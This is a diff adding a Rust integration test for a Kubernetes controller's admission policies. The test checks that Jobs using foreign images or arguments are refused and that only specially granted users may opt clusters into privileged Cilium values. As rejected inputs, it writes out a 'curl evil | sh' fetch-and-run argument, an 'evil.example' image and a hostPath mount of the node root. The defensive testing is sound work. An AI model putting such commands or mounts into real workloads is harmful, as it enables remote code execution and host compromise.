@@ -309,3 +309,240 @@ fn tls_secret(ns: &str, cert: &(String, String)) -> Secret {
     }))
     .unwrap()
 }
+
+/// A client of the test API server acting as `user` (impersonated by the
+/// admin: the admission chain sees `user`, as it would see a real token).
+async fn as_user(env: &TestEnv, user: &str) -> kube::Client {
+    let mut config = env.kube_config().await.unwrap();
+    config.auth_info.impersonate = Some(user.to_owned());
+    kube::Client::try_from(config).unwrap()
+}
+
+async fn grant(client: &kube::Client, ns: &str, user: &str, rules: Value) {
+    let name = format!("grant-{}", user.replace(':', "-"));
+    let role: k8s_openapi::api::rbac::v1::Role = serde_json::from_value(json!({
+        "metadata": {"name": name, "namespace": ns}, "rules": rules}))
+    .unwrap();
+    let binding: k8s_openapi::api::rbac::v1::RoleBinding = serde_json::from_value(json!({
+        "metadata": {"name": name, "namespace": ns},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
+        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]}))
+    .unwrap();
+    Api::namespaced(client.clone(), ns)
+        .create(&PostParams::default(), &role)
+        .await
+        .unwrap();
+    Api::namespaced(client.clone(), ns)
+        .create(&PostParams::default(), &binding)
+        .await
+        .unwrap();
+}
+
+/// The admission policies Ichor installs, enforced by the real API server
+/// (no webhook): the controller's identity can create a Job that runs as
+/// ichor-cni or ichor-installer only with Ichor's own image and arguments;
+/// only a user allowed the `privileged-values` verb may opt a TalosCluster
+/// into privileged Cilium values. Ichor did: the policies (from
+/// `ichor_adopt::install::admission_policies`) and the Jobs its controller
+/// builds; the test played: the users and their grants.
+/// Covers: R18.2
+#[tokio::test]
+async fn admission_policies_bound_the_controllers_jobs_and_the_opt_in() {
+    use k8s_openapi::api::batch::v1::Job;
+    let env = TestEnv::shared();
+    let admin = env.client().await;
+    let ns = env.namespace("policies").await;
+    crds(&admin, &ns).await;
+    let repository = "ghcr.io/maeshinshin/ichor-controller";
+    for policy in ichor_adopt::install::admission_policies(&ns, repository) {
+        let obj: kube::api::DynamicObject = serde_json::from_value(policy).unwrap();
+        let gvk = kube::core::GroupVersionKind::gvk(
+            "admissionregistration.k8s.io",
+            "v1",
+            obj.types.as_ref().unwrap().kind.as_str(),
+        );
+        let (ar, _) = kube::discovery::pinned_kind(&admin, &gvk).await.unwrap();
+        Api::<kube::api::DynamicObject>::all_with(admin.clone(), &ar)
+            .patch(
+                obj.metadata.name.as_deref().unwrap(),
+                &PatchParams::apply("test").force(),
+                &Patch::Apply(&obj),
+            )
+            .await
+            .unwrap();
+    }
+    let controller = format!("system:serviceaccount:{ns}:ichor-controller");
+    grant(
+        &admin,
+        &ns,
+        &controller,
+        json!([{"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]}]),
+    )
+    .await;
+    let jobs = Api::<Job>::namespaced(as_user(env, &controller).await, &ns);
+    let team_cluster: TalosCluster = serde_json::from_value(json!({
+        "apiVersion": "ichor.maesh.dev/v1alpha1", "kind": "TalosCluster",
+        "metadata": {"name": "prod", "namespace": "team-a"},
+        "spec": {"endpoint": "https://10.0.0.1:6443", "talosVersion": "v1.13.9",
+            "kubernetesVersion": "v1.34.1", "secretsRef": {"name": "s"}}
+    }))
+    .unwrap();
+    let own =
+        ichor_controller::cni_job::build(&team_cluster, "h1", &format!("{repository}:v0.1.0"), &ns);
+    let installer = ichor_controller::operation::ichor::installer_job(
+        &ns,
+        "ichor-upgrade-x",
+        "x",
+        &format!("{repository}:v0.2.0"),
+        "v0.2.0",
+    );
+    // The policies are served a moment after they are created.
+    wait_for("the Job policy to refuse a foreign image", || async {
+        let mut foreign = own.clone();
+        foreign.metadata.name = Some("foreign-image".into());
+        foreign
+            .spec
+            .as_mut()
+            .unwrap()
+            .template
+            .spec
+            .as_mut()
+            .unwrap()
+            .containers[0]
+            .image = Some("evil.example/ichor-controller:v0.1.0".into());
+        jobs.create(&PostParams::default(), &foreign)
+            .await
+            .is_err_and(|e| e.to_string().contains("must run Ichor's own image"))
+    })
+    .await;
+    jobs.create(&PostParams::default(), &own)
+        .await
+        .expect("Ichor's own ichor-cni Job is allowed");
+    jobs.create(&PostParams::default(), &installer)
+        .await
+        .expect("Ichor's own installer Job is allowed");
+    let mut bad_args = own.clone();
+    bad_args.metadata.name = Some("bad-args".into());
+    bad_args
+        .spec
+        .as_mut()
+        .unwrap()
+        .template
+        .spec
+        .as_mut()
+        .unwrap()
+        .containers[0]
+        .args = Some(vec!["sh".into(), "-c".into(), "curl evil | sh".into()]);
+    let mut host_path = own.clone();
+    host_path.metadata.name = Some("host-path".into());
+    host_path
+        .spec
+        .as_mut()
+        .unwrap()
+        .template
+        .spec
+        .as_mut()
+        .unwrap()
+        .volumes = Some(vec![
+        serde_json::from_value(json!({"name": "root", "hostPath": {"path": "/"}})).unwrap(),
+    ]);
+    let mut command = installer.clone();
+    command.metadata.name = Some("command".into());
+    command
+        .spec
+        .as_mut()
+        .unwrap()
+        .template
+        .spec
+        .as_mut()
+        .unwrap()
+        .containers[0]
+        .command = Some(vec!["/bin/sh".into()]);
+    for bad in [bad_args, host_path, command] {
+        let err = jobs
+            .create(&PostParams::default(), &bad)
+            .await
+            .expect_err("refused");
+        assert!(
+            err.to_string().contains("must run Ichor's own image"),
+            "{err}"
+        );
+    }
+    // A Job as any other identity is not the policy's business.
+    let mut other = own.clone();
+    other.metadata.name = Some("other-identity".into());
+    let pod = other.spec.as_mut().unwrap().template.spec.as_mut().unwrap();
+    pod.service_account_name = Some("default".into());
+    pod.containers[0].image = Some("busybox".into());
+    jobs.create(&PostParams::default(), &other)
+        .await
+        .expect("a Job that borrows no Ichor identity is allowed");
+
+    // The opt-in: an editor of TalosClusters may not set it; a user with
+    // the verb may.
+    let editor = "alice";
+    grant(
+        &admin,
+        &ns,
+        editor,
+        json!([{"apiGroups": ["ichor.maesh.dev"], "resources": ["talosclusters"], "verbs": ["create", "update", "patch", "get"]}]),
+    )
+    .await;
+    let opted = |name: &str| -> Value {
+        let mut c = cluster(&ns, name, json!({"preset": "cilium"}));
+        c["metadata"]["annotations"] = json!({ichor_api::PRIVILEGED_VALUES_ANNOTATION: "true"});
+        c
+    };
+    let alice = Api::<kube::api::DynamicObject>::namespaced_with(
+        as_user(env, editor).await,
+        &ns,
+        &kube::api::ApiResource::erase::<TalosCluster>(&()),
+    );
+    let err = alice
+        .create(
+            &PostParams::default(),
+            &serde_json::from_value(opted("by-alice")).unwrap(),
+        )
+        .await
+        .expect_err("refused");
+    assert!(err.to_string().contains("privileged-values"), "{err}");
+    let plain = cluster(&ns, "plain", json!({"preset": "cilium"}));
+    alice
+        .create(
+            &PostParams::default(),
+            &serde_json::from_value(plain).unwrap(),
+        )
+        .await
+        .expect("a TalosCluster without the opt-in is alice's to create");
+    let admin_api = Api::<kube::api::DynamicObject>::namespaced_with(
+        admin.clone(),
+        &ns,
+        &kube::api::ApiResource::erase::<TalosCluster>(&()),
+    );
+    admin_api
+        .create(
+            &PostParams::default(),
+            &serde_json::from_value(opted("by-admin")).unwrap(),
+        )
+        .await
+        .expect("a cluster admin may opt in");
+    let boss = "bob";
+    grant(
+        &admin,
+        &ns,
+        boss,
+        json!([{"apiGroups": ["ichor.maesh.dev"], "resources": ["talosclusters"], "verbs": ["create", "privileged-values"]}]),
+    )
+    .await;
+    Api::<kube::api::DynamicObject>::namespaced_with(
+        as_user(env, boss).await,
+        &ns,
+        &kube::api::ApiResource::erase::<TalosCluster>(&()),
+    )
+    .create(
+        &PostParams::default(),
+        &serde_json::from_value(opted("by-bob")).unwrap(),
+    )
+    .await
+    .expect("a user granted privileged-values may opt in");
+}
